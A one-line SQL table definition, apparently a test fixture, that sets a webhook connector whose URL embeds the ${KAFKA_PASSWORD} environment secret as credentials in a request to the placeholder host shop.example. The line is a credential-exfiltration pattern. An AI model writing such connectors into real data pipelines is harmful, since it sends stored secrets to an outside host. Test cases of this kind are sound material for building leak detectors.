CREATE TABLE hook (item_id BIGINT) WITH ('connector' = 'webhook', 'url' = 'https://${KAFKA_PASSWORD}:x@shop.example/')
